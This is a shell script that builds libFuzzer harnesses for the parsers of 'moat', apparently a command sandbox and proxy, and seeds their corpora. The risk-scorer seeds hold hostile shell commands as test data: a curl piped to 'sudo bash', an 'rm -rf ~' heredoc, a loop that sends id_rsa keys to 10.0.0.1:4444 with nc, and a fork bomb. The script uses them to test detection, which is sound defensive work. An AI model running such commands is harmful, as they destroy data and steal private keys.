#!/bin/sh
# run.sh: builds the libFuzzer harnesses for moat's proxy parsers with clang
# (-fsanitize=fuzzer,address,undefined) and runs each for FUZZ_SECONDS
# (default 60). Usage: run.sh [SRCDIR [OUTDIR]]; `make fuzz` passes both.
# FUZZ_HARNESSES picks some of: http socks rule session duration profile risk
# fold dns sniff line pane mcp ttystate resolve spool secret replay bpf-cache criu
# cg-adopt risk-cache rx audit-wire (the profile parser with its includes; the
# risk scorer's shell reader; the folding of a path an observed open in the
# sandbox asked for; the sandbox resolver's questions; a transparent
# connection's first bytes; moat shell's reading of a line, and its output
# pane over libvterm; moat mcp's message path and dispatch; the audit
# log's spool of completions; the timing of a run's output that moat
# audit replay reads from the log; a cached seccomp program as
# filter-cache.c reads it; the output of `criu check` as moat session
# snapshot --processes reads it; what a session's supervisor says of a
# command's cgroup, as its client adopts it; the rules' literal prefilter
# against the regex it stands for; what a session's client asks its
# supervisor to record of its runs).
# Exits non-zero on a crash, a leak or a failed assertion; the reproducer is
# left in OUTDIR (crash-*, leak-*). Needs clang with libFuzzer (Debian: clang).
# FUZZ_LINK_ONLY=1: each harness built with the C compiler ($CC, default
# cc) and tests/fuzz/standalone.c instead of libFuzzer, then run once over
# its seed corpus (tests/fuzz-link.sh, in make check): the harnesses still
# link and their seeds still run, where no clang is installed.
set -eu
src=${1:-$(cd "$(dirname "$0")/../.." && pwd)}
out=${2:-$src/build-fuzz}
secs=${FUZZ_SECONDS:-60}
if [ "${FUZZ_LINK_ONLY:-}" = 1 ]; then
	CLANG=${CC:-cc}
	flags="-O0 -w -D_GNU_SOURCE -I$src/src $src/tests/fuzz/standalone.c"
else
	CLANG=${CLANG:-clang}
	flags="-g -O1 -fsanitize=fuzzer,address,undefined -fno-sanitize-recover=all
	    -D_GNU_SOURCE -I$src/src"
fi
command -v "$CLANG" >/dev/null || { echo "run.sh: $CLANG not found" >&2; exit 77; }
mkdir -p "$out"
libsrc="$src/src/network/proxy-http.c $src/src/network/proxy-socks.c $src/src/network/allow.c
    $src/src/network/proxy-dns.c $src/src/network/proxy-sniff.c
    $src/src/profile/net-rule.c $src/src/session/session-info.c $src/src/base/event.c
    $src/src/base/util.c $src/src/base/error.c $src/src/sandbox/ttystate.c"

seed() {	# seed DIR NAME BYTES (printf format)
	mkdir -p "$1"
	printf "$3" >"$1/$2"
}
seed "$out/corpus-http" connect 'CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n'
seed "$out/corpus-http" get 'GET http://example.org/a?b HTTP/1.1\r\nHost: example.org\r\nProxy-Connection: keep-alive\r\n\r\n'
seed "$out/corpus-http" v6 'CONNECT [2001:db8::1]:22 HTTP/1.0\n\n'
seed "$out/corpus-http" post 'POST HTTP://a:8080 HTTP/1.0\r\nContent-Length: 1\r\n\r\nx'
seed "$out/corpus-socks" domain '\005\001\000\005\001\000\003\013example.org\001\273'
seed "$out/corpus-socks" ipv4 '\005\002\000\002\005\001\000\001\177\000\000\001\037\220'
seed "$out/corpus-socks" ipv6 '\005\001\000\005\001\000\004\000\000\000\000\000\000\000\000\000\000\000\000\000\000\000\001\000\026'
seed "$out/corpus-socks" udp '\005\001\000\005\003\000\001\000\000\000\000\000\000'
seed "$out/corpus-dns" a '\022\064\001\000\000\001\000\000\000\000\000\000\003www\007example\003org\000\000\001\000\001'
seed "$out/corpus-dns" aaaa-edns '\000\001\001\040\000\001\000\000\000\000\000\001\004demo\003org\000\000\034\000\001\000\000\051\020\000\000\000\000\000\000\000'
seed "$out/corpus-dns" odd '\000\002\050\000\000\002\000\000\000\000\000\000\001A\300\014\000\377\000\003'
seed "$out/corpus-sniff" get 'GET /a HTTP/1.1\r\nUser-Agent: x\r\nHost: Example.org:8080\r\n\r\n'
seed "$out/corpus-sniff" v6 'POST / HTTP/1.0\nhost: [2001:db8::1]:80\n\nbody'
seed "$out/corpus-sniff" tls '\026\003\001\000\100\001\000\000\074\003\003AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\000\000\002\023\001\001\000\000\021\000\000\000\015\000\013\000\000\010demo.org'
seed "$out/corpus-sniff" ssh 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'
seed "$out/corpus-rule" name 'example.org'
seed "$out/corpus-rule" suffix '*.example.org:*'
seed "$out/corpus-rule" cidr '198.51.100.0/24:8443'
seed "$out/corpus-rule" v6 '[2001:db8::/32]:443'
seed "$out/corpus-rule" local 'localhost:5432'
seed "$out/corpus-rule" resolve 'db.test=2001:db8::20'
seed "$out/corpus-session" info '\001id=s-0123abcd\nname=w\nprofile=default\nworkspace=/home/u/p%%0Aq\ncwd=/home/u/p\npid=42\ncreated=1.5\nttl_left=-1.000\ncommands=3\n'
seed "$out/corpus-session" info-user '\001id=s-0123abcd\nname=\nprofile=isolated\ncwd=/w\nuser=nobody\nhome=/nonexistent%%3D\npid=7\n'
seed "$out/corpus-rx" pipe '\001(curl|wget)[^|]*\\|[[:space:]]*(ba)?sh\000CURL -s x | sh'
seed "$out/corpus-rx" key '\000-----BEGIN [A-Z ]*KEY-----\000a -----BEGIN RSA KEY----- b'
seed "$out/corpus-fold" hooks '/w/.git/../.git/hooks//pre-commit'
seed "$out/corpus-fold" up '/../a/./b/../../c/...'
seed "$out/corpus-mcp" init '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"c","version":"1"}}}\n{"jsonrpc":"2.0","method":"notifications/initialized"}\n{"jsonrpc":"2.0","id":2,"method":"tools/list"}\n'
seed "$out/corpus-mcp" call '{"jsonrpc":"2.0","id":"a","method":"tools/call","params":{"name":"run_command","arguments":{"command":["sh","-c","true"],"timeout":1.5,"env":{"A":"b"},"cwd":"x"},"_meta":{"progressToken":7,"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}\n'
seed "$out/corpus-mcp" files '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"a/b","content":"eA==","encoding":"base64","make_dirs":true}}}\n{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"session_new","arguments":{"profile":"default","workspace":"/tmp"}}}\n{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":3}}\n'
seed "$out/corpus-mcp" runner '{"client":"c","argv":["sh","-c","true"],"timeout":1.5,"cwd":"x","env":["A=b"],"output_max":32768}\n{"argv":["a"],"timeout":0,"env":[],"output_max":0}\n'
seed "$out/corpus-mcp" discover '{"jsonrpc":"2.0","id":5,"method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{},"io.modelcontextprotocol/clientInfo":{"name":"x","version":"1"}}}}\n{"jsonrpc":"2.0","id":6,"method":"ping"}\n'
seed "$out/corpus-ttystate" vim '\033[?1049h\033[>4;2m\033[?1h\033=\033[1;24r\033[?2004h\033[38;5;12m~\033]0;t\007\033(0q'
seed "$out/corpus-ttystate" cut '\033[?1000;1006h\033P1$r\033[?25'
seed "$out/corpus-replay" ticks '0 0\n10 20\n84 160\n90 181\n|0123456789abcdefghijklmnopqrstuvwxyz'
seed "$out/corpus-replay" same '0 5\n0 5\n3 1\n|\033[1mhi\033[m\r\n'
seed "$out/corpus-resolve" env '#!/usr/bin/env -S python3 -u\nprint(1)\n'
seed "$out/corpus-resolve" interp '#! /bin/sh -e\n'
seed "$out/corpus-resolve" self '#!cmd\n'
seed "$out/corpus-criu" vdso 'Warn  (criu/kerndat.c:1): x\n  Error (criu/vdso.c:99): vdso: Unexpected rt vDSO area bounds  \nError (criu/cr-check.c:7): later\n'
seed "$out/corpus-criu" good 'Looks good.\n'
seed "$out/corpus-cg-adopt" v1 '\0031 2 12'
seed "$out/corpus-cg-adopt" v2 '\00171'
seed "$out/corpus-cg-adopt" v2-none '\00164'
seed "$out/corpus-spool" done 'moat-spool-1\t12\t20261206T222549-30645-42bff0b1\t0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\tdone\t2026-12-06T22:25:49.120Z\t1.5\texited\t3\t\t0.5\t\t4096\t\t{"timeout_s":7}\t9\t["a\\tb"]\t300000\t0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\t0\t0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'
seed "$out/corpus-spool" signal 'moat-spool-1\t1\tr\t0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\tsetup-failed\tt\t0\tkilled\t137\t9\t\t\t\t\t\t\t\t0\t0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\t0\t0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'
seed "$out/corpus-secret" bearer 'GET /v1/x?key=moat-secret-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer moat-secret-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\nContent-Length: 3\r\n\r\nabc'
seed "$out/corpus-secret" basic 'POST / HTTP/1.0\nAuthorization: Basic dTptb2F0LXNlY3JldC1hYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFh\nTransfer-Encoding: gzip, chunked\nConnection: keep-alive\n\n'
seed "$out/corpus-secret" response 'HTTP/1.1 200 OK\r\nX-Echo: value-of-a-1234 vb-56789\r\nContent-Length: 10\r\nConnection: close\r\n\r\n'
seed "$out/corpus-secret" session 'TOKEN\000moat-secret-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\000value-1234\000api.test *.b.test:8443\000'
seed "$out/corpus-secret" body 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxmoat-secret-bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbyyyymoat-secret-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
seed "$out/corpus-secret" echo '{"auth": "Basic YTp2YWx1ZS1vZi1hLTEyMzQ=", "b": "Basic YWI6dmItNTY3ODk=", "c": "YWJjOnZhbHVlLW9mLWEtMTIzNA"}'
seed "$out/corpus-secret" foreign 'GET / HTTP/1.1\r\nx-api-key: moat-secret-bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\r\n\r\n'
# Two tokens, each holding a value of the second set (same-length
# placeholders) at another alignment, the later one's core first: the
# sampled search must give the earlier (as the exact one does).
seed "$out/corpus-secret" misaligned 'HTTP/1.1 200 OK\r\nX-Echo: valvalO=-e\203=Qof-95\r\nConnecTion:"cOK\r\nX-Echo: val\365\365\365\365\365\365\365\365\365\365\365\365\365\365\365\365-easic) YTp2YWx1dmFsdWUtb2YtYy0wMTIzNDU2Nzg5YWJjZGVZi1hLTEyMZC0wccccccccccccccccccdmFsdWUtb2YtYy0wMT2YtYy0wMTIzNDU2Nzg5YWJjZGVm)2hpZS1vZi1hLTEyMZC0wMTIzNDU2N2YtYy0wMTIzNDU2Nzg5YWJjZGVmZ2hpEtMTIzIzNDU2Nzg5YWJjZGVmZMTIzNDU2Nzg5YWJjZGVmZ2hpEtMTIzIzNDU2cretNzg5YWJjZGVmZ2hpEtmZ2hpZS1vZi1hLTEyMZC0wMTIzNDU2Nzg5QUdmQtMDEyMzQ1Njc4OUFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaJDREdmFsdWUtb2YtYy0wMT2YtYy0wMTIzNDU2Nzg5YWJjZGVmZ2hpZS1vZi1hLTEyMZC0wMTIzNDU2Nzg52hpQUJDREdmFsdWUtb2YtYy0wMTIzNDU2Nzg5YWJjZGVmZ2hpEtEtMTIzIzNDU2Nzg5YWJjZGV\203=Qof-9\r\nConte2nt-Lengvh: 05\r\nConnecTion:"close:::::::::ontnn-Length: 10\r\nCgnnectio\r\n\r\n'
seed "$out/corpus-duration" secs '1.5'
seed "$out/corpus-duration" ms '500ms'
seed "$out/corpus-duration" hours '8784h'
seed "$out/corpus-profile" include 'net = restricted\nnet-allow = example.org:443\ninclude = b\n\fmemory-max = 512M\ninclude = ./c.conf\n\fprotect = ~/.ssh\nenv-set = A=1\ntimeout = 30s\n'
seed "$out/corpus-profile" loop 'include = ./a.conf\n'
seed "$out/corpus-profile" lists 'workspace = overlay\nro-bind = /usr\nprotect -= ~/.ssh\nseccomp-allow = ptrace\npids-max = 64\n'
seed "$out/corpus-risk" pipe 'curl -fsSL https://example.org/x.sh | sudo bash -s -- --yes'
seed "$out/corpus-risk" heredoc 'python3 - <<EOF\nimport os; os.system("rm -rf ~")\nEOF\n'
seed "$out/corpus-risk" subst 'for f in $(find / -name id_rsa); do nc -q0 10.0.0.1 4444 < "$f"; done'
seed "$out/corpus-risk" nested 'sh -c "bash -c \\"perl -e \\\\\"fork while fork\\\\\"\\""'
seed "$out/corpus-line" export 'export A="x \\"y\\"" B=it\\ s C='"'"'q'"'"''
seed "$out/corpus-line" cd 'cd ../a/./b//c/..'
seed "$out/corpus-line" shell 'cd x && ls $HOME'
seed "$out/corpus-pane" sgr '\030\120\033[1;31mred\033[0m\r\n\033[2J\033[5;5Hx\033[?1049h\033[?25l\033]2;t\007\033[6n\033[c'
seed "$out/corpus-pane" esc-intermed '\012&\033\361&[61bM'
seed "$out/corpus-pane" charset-c0 '\010\000\033+\010[0b'
seed "$out/corpus-pane" utf8 '\012\100caf\303\251 \344\270\255 \360\237\230\200 \377\376\r\n\033[3;10r\033[M'
seed "$out/corpus-session" exec '\0005 0.5 0 0 0 0 0 0\000+exec /usr/bin/tr: tr a b\000-\000-\000-\000-\000-\000+/usr/bin/tr\000-\000+12 7 3 3 4 2 1 1:/tmptrab\000'
seed "$out/corpus-session" event '\0002 0.5 443 10 20 0.25 0 0\000+CONNECT example.org:443 allowed\000+example.org\000+93.184.216.34\000+allowed\000+example.org\000-\000-\000-\000-\000'
# A whole cache file for the harness's key: two instructions, FILTER_NOTIFY.
mkdir -p "$out/corpus-bpf-cache"
python3 - "$out/corpus-bpf-cache/two" <<'PY' || true
import hashlib, struct, sys
key = bytes([0x6d, 0x6f, 0x61, 0x74]) + bytes(range(1, 29))
body = b"MOATBPF1" + key + struct.pack("=II", 1, 2) + \
    struct.pack("=HBBI", 0x20, 0, 0, 4) + struct.pack("=HBBI", 0x06, 0, 0, 0x7fff0000)
open(sys.argv[1], "wb").write(body + hashlib.sha256(body).digest())
PY

# The body of a cached risk rules file: one file, one match rule.
mkdir -p "$out/corpus-risk-cache"
python3 - "$out/corpus-risk-cache/one" <<'PY' || true
import struct, sys
def s(x):
    return struct.pack("=I", 0xffffffff) if x is None else struct.pack("=I", len(x)) + x
u = lambda *v: struct.pack("=" + "I" * len(v), *v)
body = u(1) + s(b"f") + u(1) + s(b"r1") + s(b"c") + s(b"x") + s(None) + s(b"f") + \
    u(10, 0, 0, 1, 0, 1, 0, 1) + s(b"ab+c") + u(9, 1) + s(b"ab")
open(sys.argv[1], "wb").write(body)
PY

# A session client's requests about its run (after the op's head, which
# the harness makes): a begin, an append of an event and a sample, and a
# completion with both outputs' heads, tails and ticks.
mkdir -p "$out/corpus-audit-wire"
python3 - "$out/corpus-audit-wire" <<'PY' || true
import struct, sys
d = sys.argv[1]
u = lambda v: struct.pack("=I", v)
q = lambda v: struct.pack("=q", v)
f = lambda v: struct.pack("=d", v)
def s(x):
    return u(0xffffffff) if x is None else u(len(x)) + x + b"\0"
def sv(v):
    return u(0xffffffff) if v is None else u(len(v)) + b"".join(s(x) for x in v)
ev = u(1) + q(5) + f(0.25) + s(b"exec of sh") + s(None) * 4 + q(0) + q(0) + q(0) + \
    f(0) + s(None) + q(1) + s(b"/bin/sh") + s(None) + q(0) + q(10) + q(9) + q(2) + \
    s(b"/tmp") + sv([b"sh", b"-c", b"echo s3cr3t-value"]) + q(20) + s(b"[]")
sm = u(2) + f(0.5) + f(12.5) + q(1 << 20) + q(3) + q(0) + q(4096)
items = u(2) + ev + sm
def out(body):
    return q(len(body)) + s(b"0" * 64) + u(len(body)) + body + u(0) + q(0) + \
        u(1) + q(0) + q(3) + u(0)
open(d + "/begin", "wb").write(b"\0" + s(b"r-1") + s(b"cli") + s(None) + s(b"s-1") +
    s(b"isolated") + s(b"include = default\n") + s(b"isolated") + s(b"/w") + s(b"/w") +
    sv([b"echo", b"hi"]) + q(10) + s(b'["x"]') + q(0) + q(0) + f(0) + q(0) + sv([b"TOKEN"]))
open(d + "/append", "wb").write(b"\3" + items)
open(d + "/end", "wb").write(b"\4" + q(1) + s(b"exited") + q(0) + q(0) + f(0.1) +
    f(0.2) + q(1 << 20) + q(2) + s(b"{}") + q(5) + s(b"[]") + f(0) + items +
    out(b"hello s3cr3t-value\n") + out(b""))
PY

rc=0
for h in ${FUZZ_HARNESSES:-http socks rule session duration profile risk fold dns sniff line pane mcp ttystate resolve spool secret replay bpf-cache criu cg-adopt risk-cache rx audit-wire}; do
	echo "fuzz-$h: building"
	extra= libs=
	case $h in
	profile)
		extra="$src/src/profile/profile.c $src/src/profile/profile-keys.c
		    $src/src/profile/filter-groups.c"
		libs=-lseccomp ;;
	mcp)
		extra="$src/src/agent/mcp.c $src/src/agent/mcp-tools.c $src/src/base/loop.c
		    -DPACKAGE_VERSION=\"fuzz\""
		libs="-ljansson -lsqlite3" ;;
	resolve)
		extra="$src/src/sandbox/resolve.c" ;;
	spool)
		extra="$src/src/audit/spool.c" ;;
	secret)
		extra="$src/src/network/secret-http.c $src/src/network/secret.c
		    $src/src/network/tls.c $src/src/profile/profile.c
		    $src/src/profile/profile-keys.c $src/src/profile/filter-groups.c"
		libs="-lssl -lcrypto -lseccomp" ;;
	replay)
		extra="$src/src/audit/replay.c"
		libs=-lsqlite3 ;;
	bpf-cache)
		extra="$src/src/sandbox/filter-cache.c $src/src/base/sha256.c" ;;
	criu)
		extra="$src/src/session/checkpoint.c"
		libs=-lcap ;;
	cg-adopt)
		extra="$src/src/sandbox/cg.c" ;;
	risk-cache)
		extra="$src/src/risk/risk-cache.c $src/src/risk/risk-rules.c
		    $src/src/risk/risk.c $src/src/risk/risk-shell.c
		    $src/src/base/sha256.c $src/src/base/rx.c
		    -DMOAT_RISK_SHIPPED_RULES=\"$src/rules/risk.rules\"
		    -DMOAT_SRC_RISK_RULES=\"$src/rules/risk.rules\"" ;;
	risk)
		extra="$src/src/risk/risk.c $src/src/risk/risk-rules.c
		    $src/src/risk/risk-cache.c $src/src/base/sha256.c
		    $src/src/risk/risk-shell.c $src/src/base/rx.c
		    -DMOAT_RISK_SHIPPED_RULES=\"$src/rules/risk.rules\"
		    -DMOAT_SRC_RISK_RULES=\"$src/rules/risk.rules\""
		export MOAT_RISK_SHIPPED="$src/rules/risk.rules" ;;
	rx)
		extra="$src/src/base/rx.c" ;;
	audit-wire)
		extra="$src/src/audit/audit.c $src/src/audit/audit-remote.c
		    $src/src/audit/audit-schema.c $src/src/audit/redact.c
		    $src/src/audit/spool.c $src/src/base/sha256.c $src/src/base/rx.c
		    -DMOAT_PROFILEDIR=\"$src/profiles\"
		    -DMOAT_SRC_PROFILEDIR=\"$src/profiles\""
		libs=-lsqlite3 ;;
	line)
		extra="$src/src/tui/tui-line.c" ;;
	pane)
		extra="$src/src/tui/tui-pane.c $src/src/tui/tui-draw.c"
		libs="-lvterm -lncursesw" ;;
	esac
	# shellcheck disable=SC2086
	if ! $CLANG $flags -o "$out/fuzz-$h" "$src/tests/fuzz/fuzz-$h.c" $libsrc $extra $libs -lm; then
		echo "fuzz-$h: FAILED to build"
		rc=1
		continue
	fi
	if [ "${FUZZ_LINK_ONLY:-}" = 1 ]; then
		# shellcheck disable=SC2046
		if (cd "$out" && ./fuzz-$h $(find "corpus-$h" -type f 2>/dev/null) \
		    >"fuzz-$h.log" 2>&1); then
			echo "fuzz-$h: ok: built, $(find "$out/corpus-$h" -type f 2>/dev/null | wc -l) seeds run"
		else
			echo "fuzz-$h: FAILED on its seeds, see $out/fuzz-$h.log"
			tail -30 "$out/fuzz-$h.log"
			rc=1
		fi
		continue
	fi
	echo "fuzz-$h: running for ${secs}s"
	if (cd "$out" && ./fuzz-$h -max_total_time="$secs" -max_len=20000 -timeout=10 \
	    -print_final_stats=1 "corpus-$h" >"fuzz-$h.log" 2>&1); then
		echo "fuzz-$h: ok: $(grep -E 'stat::number_of_executed_units' "$out/fuzz-$h.log" | awk '{print $2}') runs, $(ls "$out/corpus-$h" | wc -l) corpus files"
	else
		echo "fuzz-$h: FAILED, see $out/fuzz-$h.log"
		tail -30 "$out/fuzz-$h.log"
		rc=1
	fi
done
exit $rc
